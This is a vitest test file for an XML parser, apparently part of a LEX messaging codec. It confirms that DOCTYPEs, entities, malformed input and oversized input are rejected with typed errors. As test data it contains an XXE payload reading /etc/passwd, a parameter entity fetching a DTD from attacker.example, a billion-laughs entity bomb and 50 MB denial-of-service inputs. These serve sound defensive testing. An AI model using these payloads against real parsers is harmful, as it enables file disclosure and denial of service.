// Hostile and broken input: typed, positioned LexCodecErrors; no DTD or entity is ever read or expanded; linear time.
import { describe, expect, it } from 'vitest';
import { LexCodecError } from '@lexstandard/codec';
import { parseXml, parseXmlBatch } from '../src/index.js';
import { read } from './helpers.js';

const minimal = read('conformance/examples/seed/minimal-lead.xml');

function failure(input: string | Uint8Array, options?: Parameters<typeof parseXml>[1]): LexCodecError {
  try {
    parseXml(input, options);
  } catch (err) {
    expect(err).toBeInstanceOf(LexCodecError);
    return err as LexCodecError;
  }
  throw new Error('expected a LexCodecError');
}

describe('DTDs and entities are never read', () => {
  it('rejects any DOCTYPE with XML_DTD_FORBIDDEN and its position', () => {
    const e = failure('<?xml version="1.0"?>\n<!DOCTYPE lex SYSTEM "http://example.com/lex.dtd">\n<lex/>');
    expect(e.code).toBe('XML_DTD_FORBIDDEN');
    expect(e.format).toBe('xml');
    expect(e.position).toMatchObject({ line: 2, column: 1 });
  });

  it('rejects XXE (external entity) before anything is resolved', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE lex [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><lex version="1.0.0"><Header><SenderId>&xxe;</SenderId></Header></lex>';
    expect(failure(xxe).code).toBe('XML_DTD_FORBIDDEN');
    const param = '<!DOCTYPE lex [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><lex/>';
    expect(failure(param).code).toBe('XML_DTD_FORBIDDEN');
  });

  it('rejects billion laughs at once, without expanding anything', () => {
    let dtd = '<!ENTITY lol "lol">';
    for (let i = 1; i <= 9; i++) dtd += `<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`;
    const bomb = `<?xml version="1.0"?><!DOCTYPE lolz [${dtd}]><lex version="1.0.0"><Header><SenderId>&lol9;</SenderId></Header></lex>`;
    const t0 = performance.now();
    const e = failure(bomb);
    expect(e.code).toBe('XML_DTD_FORBIDDEN');
    expect(performance.now() - t0).toBeLessThan(50);
  });

  it('rejects a declaration outside a DOCTYPE and a lower-case doctype', () => {
    expect(failure('<!ENTITY x "y"><lex/>').code).toBe('XML_DTD_FORBIDDEN');
    expect(failure('<!doctype lex><lex/>').code).toBe('XML_DTD_FORBIDDEN');
  });

  it('rejects an undefined entity with XML_UNDEFINED_ENTITY; decodes only the five predefined ones and character references', () => {
    const e = failure(minimal.replace('Springfield', 'Spring&nbsp;field'));
    expect(e.code).toBe('XML_UNDEFINED_ENTITY');
    expect(e.position?.line).toBe(21);
    const ok = parseXml(minimal.replace('Springfield', '&lt;&gt;&amp;&quot;&apos;&#65;&#x42;&#x1F600;'));
    expect((ok.message.lex.payload as any).lead.customer.address.city).toBe('<>&"\'AB😀');
  });

  it('rejects character references to characters XML forbids', () => {
    expect(failure(minimal.replace('Springfield', '&#0;')).code).toBe('XML_MALFORMED');
    expect(failure(minimal.replace('Springfield', '&#xD800;')).code).toBe('XML_MALFORMED');
    expect(failure(minimal.replace('Springfield', '&#x110000;')).code).toBe('XML_MALFORMED');
  });
});

describe('malformed input', () => {
  const cases: [string, string, string][] = [
    ['mismatched end tag', minimal.replace('</City>', '</Town>'), 'XML_MALFORMED'],
    ['truncated', minimal.slice(0, 400), 'XML_MALFORMED'],
    ['truncated inside a tag', minimal.slice(0, minimal.indexOf('<Street1') + 4), 'XML_MALFORMED'],
    ['empty', '', 'XML_MALFORMED'],
    ['only a declaration', '<?xml version="1.0"?>', 'XML_MALFORMED'],
    ['text before the root', 'hello <lex/>', 'XML_MALFORMED'],
    ['two roots', '<lex version="1.0.0"><Header><MessageId>x</MessageId></Header></lex><lex/>', 'XML_MALFORMED'],
    ['end tag without start', '</lex>', 'XML_MALFORMED'],
    ['duplicate attribute', '<lex version="1" version="2"/>', 'XML_MALFORMED'],
    ['unquoted attribute', '<lex version=1.0.0/>', 'XML_MALFORMED'],
    ['< in an attribute', '<lex version="<"/>', 'XML_MALFORMED'],
    ['unterminated comment', '<lex><!-- x</lex>', 'XML_MALFORMED'],
    ['unterminated CDATA', '<lex><Header><MessageId><![CDATA[x</MessageId></Header></lex>', 'XML_MALFORMED'],
    ['late XML declaration', '<lex><?xml version="1.0"?></lex>', 'XML_MALFORMED'],
    ['binary garbage', '\u0000\u0001\u0002PK\u0003\u0004\u00ff\u00fe', 'XML_MALFORMED'],
    ['control character in text', minimal.replace('Jane', 'Ja\u0001ne'), 'XML_MALFORMED'],
    ['lone surrogate', minimal.replace('Jane', 'Ja\uD800ne'), 'XML_MALFORMED'],
    ['no LEX content', '<?xml version="1.0"?><invoice><total>3</total></invoice>', 'XML_NOT_LEX'],
  ];
  for (const [name, input, code] of cases) {
    it(`${name} → ${code} with a position`, () => {
      const e = failure(input);
      expect(e.code).toBe(code);
      expect(e.position?.offset).toBeGreaterThanOrEqual(0);
      expect(e.position?.line).toBeGreaterThanOrEqual(1);
      expect(e.position?.column).toBeGreaterThanOrEqual(1);
      expect(e.message).toMatch(/line \d+, column \d+/);
      expect(e.message).not.toMatch(/undefined|\[object/);
    });
  }

  it('names the mismatched tags and the place of the end tag', () => {
    const e = failure(minimal.replace('</City>', '</Town>'));
    expect(e.message).toContain('</Town> does not match <City>');
    expect(e.position).toMatchObject({ line: 21, column: 18 });
  });

  it('bytes: invalid UTF-8 is XML_MALFORMED at the bad byte; BOMs and declared encodings are honoured', () => {
    const bytes = Buffer.from(minimal, 'utf8');
    const broken = Buffer.concat([bytes.subarray(0, 300), Buffer.from([0xc3, 0x28]), bytes.subarray(300)]);
    const e = failure(broken);
    expect(e.code).toBe('XML_MALFORMED');
    expect(e.position?.offset).toBe(300);
    expect(parseXml(bytes).message).toStrictEqual(parseXml(minimal).message);
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(minimal, 'utf16le')]);
    expect(parseXml(utf16).message).toStrictEqual(parseXml(minimal).message);
    const latin1 = Buffer.from(minimal.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').replace('Jane', 'Jos\u00e9'), 'latin1');
    expect((parseXml(latin1).message.lex.payload as any).lead.customer.firstName).toBe('José');
    expect(failure(Buffer.from('<?xml version="1.0" encoding="x-no-such"?><lex/>')).code).toBe('XML_UNSUPPORTED_ENCODING');
  });
});

describe('limits: depth, size, time', () => {
  it('stops at the nesting limit with XML_DEPTH_LIMIT', () => {
    const deep = '<lex>' + '<a>'.repeat(100) + '</a>'.repeat(100) + '</lex>';
    const e = failure(deep);
    expect(e.code).toBe('XML_DEPTH_LIMIT');
    expect(failure('<lex><Header><SenderId><b><c/></b></SenderId></Header></lex>', { maxDepth: 3 }).code).toBe('XML_DEPTH_LIMIT');
  });

  it('refuses input over the size limit before reading it', () => {
    const e = failure(minimal, { maxLength: 100 });
    expect(e.code).toBe('XML_TOO_LARGE');
  });

  it('caps warnings', () => {
    const noisy = minimal.replace('<Header>', '<Header>' + '<Zz/>'.repeat(50));
    const { warnings } = parseXml(noisy, { maxWarnings: 10 });
    expect(warnings).toHaveLength(11);
    expect(warnings[10]!.code).toBe('XML_TOO_MANY_WARNINGS');
  });

  it('reads a 50 MB value in linear time (and rejects it by default as too large)', () => {
    const big = 'x'.repeat(50 * 1024 * 1024);
    const text = minimal.replace('Springfield', big);
    expect(failure(text).code).toBe('XML_TOO_LARGE');
    const t0 = performance.now();
    const r = parseXml(text, { maxLength: 64 << 20 });
    expect((r.message.lex.payload as any).lead.customer.address.city.length).toBe(big.length);
    expect(performance.now() - t0).toBeLessThan(10_000);
  }, 30_000);

  it('50 MB of unclosed tags, of attributes, of nesting: a typed error, quickly', () => {
    const opts = { maxLength: 64 << 20 };
    const cases = [
      '<lex>' + '<Header>'.repeat(5_000_000),
      '<lex ' + 'a="1" '.repeat(8_000_000) + '>',
      '<lex><Header><SenderId>' + '&amp;'.repeat(10_000_000),
      '<' + 'a'.repeat(50_000_000),
    ];
    for (const text of cases) {
      const t0 = performance.now();
      const e = failure(text, opts);
      expect(['XML_MALFORMED', 'XML_DEPTH_LIMIT']).toContain(e.code);
      expect(performance.now() - t0).toBeLessThan(10_000);
    }
  }, 60_000);

  it('a batch of 50 MB of documents is read in one pass', () => {
    const doc = minimal.replace(/^<\?xml[^>]*>\s*/, '').replace(' xmlns="https://lexstandard.org/schema/1.0"', '');
    const count = Math.ceil((50 * 1024 * 1024) / doc.length);
    const text = `<lexBatch xmlns="https://lexstandard.org/schema/1.0">${doc.repeat(count)}</lexBatch>`;
    const t0 = performance.now();
    const r = parseXmlBatch(text);
    expect(r.messages).toHaveLength(count);
    expect(performance.now() - t0).toBeLessThan(20_000);
  }, 60_000);
});
